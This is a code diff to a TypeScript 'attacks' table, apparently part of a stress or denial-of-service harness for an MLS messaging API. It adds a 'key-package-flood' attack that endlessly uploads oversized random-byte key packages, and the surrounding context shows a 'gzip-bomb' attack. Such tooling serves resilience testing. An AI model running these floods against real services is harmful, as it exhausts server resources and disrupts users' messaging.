@@ -248,6 +248,21 @@ export const attacks: Record<string, { readonly what: string; readonly run: (tar
     },
   },
 
+  "key-package-flood": {
+    what: "60 KiB key packages (random bytes in a key package's place), 4 at a time per address",
+    run: (target) => {
+      const session = sessionPool(target);
+      const upload = () =>
+        frame(
+          toBinary(
+            mlsApi.UploadKeyPackageRequestSchema,
+            create(mlsApi.UploadKeyPackageRequestSchema, { keyPackage: { keyPackageTlsSerialized: Buffer.concat([Buffer.from([0, 1, 0, 3]), randomBytes(60 * 1024)]) }, isInboxIdCredential: true }),
+          ),
+        );
+      return forever(4 * target.addresses.length, () => unary(session(), "UploadKeyPackage", upload()));
+    },
+  },
+
   "gzip-bomb": {
     what: "gzip requests of 64 KiB that inflate to 64 MiB, 4 at a time per address",
     run: (target) => {
